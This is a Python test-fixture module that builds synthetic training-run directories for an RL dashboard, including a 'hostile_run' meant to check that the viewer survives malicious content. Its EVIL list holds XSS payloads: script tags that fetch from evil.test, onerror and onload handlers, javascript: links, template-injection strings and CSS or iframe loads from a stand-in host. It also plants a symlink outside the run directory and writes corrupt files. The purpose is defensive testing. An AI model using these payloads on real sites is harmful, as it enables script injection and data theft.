"""Run directories for tests and benchmarks of the Space, written by the project's own writers."""

import dataclasses
import json
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import torch
from estimates import ebpo_step

from openrlhf_ebpo.estimator.config import EstimatorConfig
from openrlhf_ebpo.estimator.ebpo import EBPO
from openrlhf_ebpo.estimator.prior import Prior
from openrlhf_ebpo.estimator.stored import pack
from openrlhf_ebpo.eval.metrics import summarise
from openrlhf_ebpo.run.results import save_result
from openrlhf_ebpo.run.run_log import close_run
from openrlhf_ebpo.run.run_settings import RunSettings
from openrlhf_ebpo.run.run_start import open_run
from openrlhf_ebpo.run.run_writer import RunWriter
from openrlhf_ebpo.upstream.controller.rollouts import SCHEMA, Rollouts, prompt_id

WORDS = "the sum of all roots is therefore equal to minus one half so that we may write it as product"
TOPICS = ("Algebra", "Geometry", "Number theory", "Probability")
PROMPTS = (
    (r"Let $f(x) = x^2 - {a}x + {b}$. Find the sum of the roots of $f(x) = 0$.", "{a}"),
    (r"A triangle has legs of length ${a}$ and ${b}$. The hypotenuse is $\sqrt{{N}}$. Find $N$.", "{c}"),
    (r"Find the remainder of \({a}^{{10}}\) divided by ${b}$.", "{m}"),
    (r"Evaluate \[\sum_{{k=1}}^{{{a}}} \left(k + \frac{{{b}}}{{{a}}}\right).\]", "{s}"),
)
EVIL = (
    (
        '<script>window.hacked = 1; fetch("http://evil.test/script")</script><img src=x '
        'onerror="window.hacked=1;alert(1)">'
    ),
    "${window.hacked=1} ${alert(1)} `${alert(2)}` {{value}} {{constructor.constructor('alert(1)')()}} \\boxed{7}",
    "![img](http://evil.test/i.png) [link](http://evil.test) [js](javascript:alert(1)) <http://evil.test/auto>",
    "<style>*{display:none!important;background:url(http://evil.test/css)}</style><link rel=stylesheet href=http://evil.test/l.css>",
    '<iframe src="http://evil.test/frame"></iframe><svg/onload=alert(1)><a href="javascript:alert(1)">x</a><base href=http://evil.test>',
    "a\u202eesrever\u202c \u200b\u200d\ufeff zero\u2066width\u2069 \u0000NUL \u0007 \x1b[31m Z" + "\u0301" * 400,
    (
        r"$\text{<img src=x onerror=alert(1)>}$ \(\frac{<script>}{1}\) $$\href{javascript:alert(1)}{x}$$ "
        r"$\boxed{\sqrt[3]{2}}$"
    ),
    (
        '</pre></div></template><div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>"\' '
        'autofocus onfocus=alert(1) x="'
    ),
)


class Texts:
    """A tokenizer whose every text is one token."""

    def __init__(self):
        self.texts: list[str] = []

    def token(self, text: str) -> int:
        self.texts.append(text)
        return len(self.texts) - 1

    def batch_decode(self, rows, skip_special_tokens):
        return ["".join(self.texts[t] for t in row) for row in rows]


def learning_run(
    directory: Path,
    *,
    steps: int,
    seed: int,
    name: str,
    prompts: int = 24,
    size: int = 4,
    pace: float = 1.0,
    estimator: str = "ebpo",
    status: str = "complete",
) -> Path:
    """A run whose policy gets better; prompts come back, some answers are truncated, some rewards fail."""
    rng = np.random.default_rng(seed)
    args = settings(directory, size, seed, estimator, pace)
    run = RunSettings(directory, directory.parent / "ckpt", name=name)
    open_run(run, argv=["--rollout.n_samples_per_prompt", str(size)], args=args)
    texts, prior, config = Texts(), Prior(), EstimatorConfig(n_samples_per_prompt=size)
    log = RunWriter(directory, texts)
    pool = [problem(rng) for _ in range(prompts * 5)]
    hardness = rng.beta(1.4, 1.1, len(pool))
    for step in range(1, steps + 1):
        chosen = rng.choice(len(pool), prompts, replace=False)
        skill = 1 - np.exp(-pace * step / (0.6 * steps))
        rates = np.clip(1.25 * skill - hardness[chosen], 0.0, 1.0) ** 1.2
        rewards = torch.tensor((rng.random((prompts, size)) < rates[:, None]).astype(np.float32))
        valid = torch.tensor(rng.random((prompts, size)) > 0.01)
        valid[:, 0] = True
        result = ebpo_step(rewards, valid, prior, config)
        prior = result.state
        if estimator != "ebpo":
            nothing = torch.full_like(result.baselines, torch.nan)
            result = dataclasses.replace(
                result, baselines=nothing, shrinkage=nothing, advantages=result.grpo_advantages
            )
        batch = rollouts(rng, texts, [pool[i] for i in chosen], rewards, valid).with_result(result)
        log.write_rollouts(step, batch)
        log.write_metrics(step, metrics(rng, step / steps, pace, result, config, batch, estimator))
        log.write_prior(pack(EBPO(config), prior))
    log.flush()
    for step in range(0, steps + 1, max(steps // 4, 1)):
        if step:
            log.write_checkpoint(step, tag=f"global_step{step}", checkpoint=f"ckpt/{step}", model=None)
        evaluation(directory, "aime24", step, 0.15 + 0.4 * pace * step / steps, seed)
        evaluation(directory, "amc23", step, 0.3 + 0.5 * min(pace, 1.2) * step / steps, seed)
    if status != "running":
        close_run(directory, status)
    return directory


def troubled_run(directory: Path, seed: int = 5) -> Path:
    """A training that goes wrong in several ways, and stopped with an error."""
    learning_run(directory, steps=40, seed=seed, name="troubled", pace=0.3, status="running", prompts=8)
    path = directory / "metrics.jsonl"
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    for row in rows:
        late = row["step"] - 20
        row["policy/entropy"] = 0.8 if late < 0 else 0.8 * 0.7**late
        row["actor_grad_norm"] = 9.0 if late == 11 else row["actor_grad_norm"]
        row["truncated"] = 0.02 if late < 0 else min(0.02 + 0.03 * late, 1.0)
        row["vllm_kl"] = 0.003 if late < 5 else 0.09
    path.write_text("".join(json.dumps(row) + "\n" for row in rows if row["step"] != 14))
    close_run(directory, "failed", error="RuntimeError: the loss is not finite at step 40")
    return directory


def settings(directory: Path, size: int, seed: int, estimator: str, pace: float) -> dict:
    return {
        "actor": {"model_name_or_path": "Qwen/Qwen3-8B", "adam": {"lr": 1e-6 * pace}},
        "data": {"prompt_dataset": "data/topics.parquet"},
        "train": {"seed": seed},
        "rollout": {"n_samples_per_prompt": size},
        "algo": {"advantage": {"estimator": estimator}, "kl": {"init_coef": 0.001}},
        "ckpt": {"path": str(directory / "ckpt")},
        "logger": {"run_dir": str(directory)},
    }


def problem(rng) -> tuple[str, str, str]:
    """(prompt, label, topic)"""
    kind = int(rng.integers(len(PROMPTS)))
    a, b = (int(v) for v in rng.integers(3, 30, 2))
    prompt, label = PROMPTS[kind]
    values = {"a": a, "b": b, "c": a * a + b * b, "m": pow(a, 10, b), "s": a * (a + 1) // 2 + b}
    return prompt.format(**values), label.format(**values), TOPICS[kind]


def answer(rng, label: str, right: bool, cut: bool) -> str:
    value = label if right else str(int(label) + int(rng.integers(1, 9)))
    steps = [
        r"We look for a value of \(x\) that satisfies the condition.",
        rf"Write \(\frac{{{value}}}{{2}} \cdot 2 = {value}\), so it is enough to check the factors.",
        rf"Since $\sqrt{{{int(value) ** 2}}} = {value}$ and $x \geq 0$, no other case is left.",
        r"Let me check this once more. The sum is as before, and nothing was counted twice.",
    ]
    text = "\n\n".join(steps[: int(rng.integers(2, 5))])
    return text + ("\n\nSo we" if cut else f"\n\nThe answer is $\\boxed{{{value}}}$.<|im_end|>")


def rollouts(rng, texts: Texts, problems: list, rewards: torch.Tensor, valid: torch.Tensor) -> Rollouts:
    prompts, size = rewards.shape
    count = prompts * size
    cut = rng.random(count) < 0.04
    lengths = rng.integers(180, 900, count)
    responses = [
        answer(rng, problems[i // size][1], bool(rewards[i // size, i % size]), bool(cut[i])) for i in range(count)
    ]
    failed = ~valid.reshape(-1)
    return Rollouts(
        order=torch.arange(count),
        raw_rewards=torch.where(failed, torch.nan, rewards.reshape(-1)),
        action_counts=torch.tensor(lengths),
        score_weights=lambda: torch.tensor(0.2 * lengths),
        response_lengths=torch.tensor(lengths),
        truncated=torch.tensor(cut),
        responses=[torch.tensor([texts.token(text)]) for text in responses],
        prompts=[problems[i // size][0] for i in range(count)],
        labels=[problems[i // size][1] for i in range(count)],
        errors=["TimeoutError: the grader took longer than 10 s" if f else "" for f in failed.tolist()],
        clusters=[problems[i // size][2] for i in range(count)],
    )


def metrics(rng, share: float, pace: float, result, config, batch, estimator: str) -> dict:
    own = result.metrics
    if estimator != "ebpo":
        own = {k: v for k, v in own.items() if k in ("ebpo/all_fail_fraction", "ebpo/all_pass_fraction")}
    found = {
        "rollout/reward_mean": result.rewards[result.valid.bool()].mean(),
        "rollout/num_samples": float(result.rewards.numel()),
        "response_length": batch.response_lengths.float().mean() * (1 + 0.6 * share),
        "truncated": batch.truncated.float().mean(),
        "actor_grad_norm": 0.3 + 0.5 * np.exp(-3 * share) + 0.08 * rng.standard_normal(),
        "policy/entropy": 0.25 + 0.6 * np.exp(-4 * pace * share) + 0.02 * rng.standard_normal(),
        "policy/kl_per_step": 2e-4 * (1 + np.exp(-5 * share)) * rng.lognormal(0, 0.4),
        "ppo_clip_ratio": abs(0.01 * rng.standard_normal()),
        "ppo_kl": 1e-5 * rng.standard_normal(),
        "kl": 0.02 * share * pace,
        "ebpo/reward_error_fraction": 1 - result.valid.double().mean(),
        **own,
    }
    return found


def evaluation(
    directory: Path, task: str, step: int, rate: float, seed: int, questions: int = 15, n: int = 8, protocol: str = ""
) -> None:
    protocol = protocol or f"default+n={n}"
    rng = np.random.default_rng([seed, step, len(task)])
    rates = np.clip(rate + 0.35 * np.random.default_rng(7).standard_normal(questions), 0, 1)
    correct = rng.random((questions, n)) < rates[:, None]
    classes = np.where(correct, 0, rng.integers(1, 4, (questions, n)))
    lengths = rng.integers(300, 2000, (questions, n))
    rows = [
        {
            "question_id": f"{task}/{q}",
            "question": f"Question {q}: find $x$ with $x^2 = {q * q}$ and $x \\geq 0$.",
            "gold": str(q),
            "response": f"Since $\\sqrt{{{q * q}}} = {q}$, $\\boxed{{{q if correct[q, i] else q + 1}}}$.",
            "extracted": str(q if correct[q, i] else q + 1),
            "correct": bool(correct[q, i]),
            "error": None,
            "length": int(lengths[q, i]),
            "finish_reason": "stop",
            "seed": seed,
            "sample": i,
            "class": int(classes[q, i]),
            "rules": "{}",
        }
        for q in range(questions)
        for i in range(n)
    ]
    summary = {
        "model": "Qwen/Qwen3-8B",
        "step": step,
        "task": {"name": task, "source": "made", "questions": questions, "fingerprint": "0"},
        "protocol": {"name": protocol, "n": n, "fingerprint": "0"},
        "metrics": summarise(correct, classes, lengths, np.zeros_like(correct)),
    }
    save_result(directory / "eval" / protocol / task / f"step-{step:06d}", summary, rows)


def hostile_run(directory: Path, megabytes: float = 5.0) -> Path:
    """Everything that a run could do to a page, and broken files next to complete ones."""
    (directory / "rollouts").mkdir(parents=True)
    evil = [*EVIL, "A" * int(megabytes * 2**20), "word " * 40_000]
    name = EVIL[0]
    run = {
        "schema": 1,
        "name": name,
        "status": "<b>running</b>",
        "args": {EVIL[1]: {"x": EVIL[4]}, "algo": {"advantage": EVIL[2]}},
    }
    (directory / "run.json").write_text(json.dumps(run))
    with open(directory / "metrics.jsonl", "w") as file:
        for step in range(1, 31):
            row = {
                "step": step,
                "time": 1.0 * step,
                "rollout/reward_mean": step / 30,
                EVIL[0]: step,
                "eval_<b>x</b>_pass1": 0.5,
            }
            file.write(json.dumps(row) + "\n")
        file.write(
            '{"step": 31, "rollout/reward_mean": NaN}\n{"step": -1}\n[]\n{"step": "x"}\nnot json\n{"step": 31, '
            '"ebpo/shrinkage": 1e999}\n{"torn'
        )
    rows = []
    for group, text in enumerate(evil):
        for sample in range(3):
            reward = float(sample == 1)
            texts = {"prompt_id": text[:40], "cluster": text[:60], "prompt": text[:5000], "response": text}
            place = {"step": 1, "group": group, "sample": sample, "response_length": 10, "truncated": False}
            given = {"label": text[:100], "raw_reward": reward, "reward": reward, "valid": True, "error": text[:500]}
            found = {"group_mean": 1 / 3, "baseline": 0.3, "shrinkage": 0.2, "advantage": reward - 0.3}
            rows.append({**texts, **place, **given, **found, "grpo_advantage": 0.0})
    table = pa.Table.from_pylist(rows, schema=SCHEMA)
    pq.write_table(table, directory / "rollouts" / "step-000001.parquet", compression="zstd")
    whole = (directory / "rollouts" / "step-000001.parquet").read_bytes()
    (directory / "rollouts" / "step-000002.parquet").write_bytes(whole[: len(whole) // 2])
    (directory / "rollouts" / "step-000003.parquet").write_bytes(b"no parquet at all")
    pq.write_table(pa.table({"step": [4], "other": ["schema 9"]}), directory / "rollouts" / "step-000004.parquet")
    outside = directory.parent / "outside.parquet"
    pq.write_table(table.slice(0, 3), outside)
    (directory / "rollouts" / "step-000005.parquet").symlink_to(outside)
    evaluation(directory, "amc23", 1, 0.4, 1)
    place = directory / "eval" / "default+n=8"
    for task, text in (("broken", "{"), ("future", '{"schema": 99}'), ("odd", '{"schema": 1, "metrics": 3}')):
        (place / task / "step-000001").mkdir(parents=True)
        (place / task / "step-000001" / "summary.json").write_text(text)
    return directory


def large_run(directory: Path, rows: int, size: int = 8, per_step: int = 4096) -> Path:
    """Rollouts of `rows` rows, one file per step, answers of some hundred characters."""
    (directory / "rollouts").mkdir(parents=True)
    (directory / "run.json").write_text(json.dumps({"schema": 1, "name": "large", "status": "complete", "args": {}}))
    rng = np.random.default_rng(0)
    words = np.array(WORDS.split())
    pool = [" ".join(rng.choice(words, 60)) for _ in range(500)]
    prompts = [f"Problem {i}: " + " ".join(rng.choice(words, 25)) for i in range(4000)]
    ids = [prompt_id(prompt, "1") for prompt in prompts]
    groups = per_step // size
    for step in range(1, rows // per_step + 2):
        chosen = np.repeat(rng.integers(0, len(prompts), groups), size)
        reward = (rng.random((groups, size)) < rng.beta(0.4, 0.4, groups)[:, None]).astype(np.float32)
        mean = reward.mean(1, keepdims=True)
        baseline = np.broadcast_to(0.7 * mean + 0.15, reward.shape)
        std = reward.std(1, ddof=1, keepdims=True)
        grpo = np.where(std > 0, (reward - mean) / (std + 1e-9), 0)
        flat = {
            "step": np.full(per_step, step, np.int32),
            "prompt_id": [ids[i] for i in chosen],
            "group": np.repeat(np.arange(groups, dtype=np.int32), size),
            "sample": np.tile(np.arange(size, dtype=np.int32), groups),
            "cluster": [TOPICS[i % 4] for i in chosen],
            "prompt": [prompts[i] for i in chosen],
            "response": [f"{pool[i]} {pool[j]}" for i, j in rng.integers(0, 500, (per_step, 2))],
            "label": ["1"] * per_step,
            "raw_reward": reward.ravel(),
            "reward": reward.ravel(),
            "valid": np.ones(per_step, bool),
            "error": [None] * per_step,
            "group_mean": np.broadcast_to(mean, reward.shape).ravel().astype(float),
            "baseline": baseline.ravel().astype(float),
            "shrinkage": np.full(per_step, 0.3),
            "advantage": (reward - baseline).ravel().astype(float),
            "grpo_advantage": grpo.ravel().astype(float),
            "response_length": rng.integers(100, 900, per_step).astype(np.int32),
            "truncated": rng.random(per_step) < 0.02,
            "action_tokens": np.full(per_step, 300, np.int32),
            "score_weight": rng.random(per_step) * 300,
        }
        path = directory / "rollouts" / f"step-{step:06d}.parquet"
        pq.write_table(pa.table(flat, schema=SCHEMA), path, compression="zstd")
    return directory
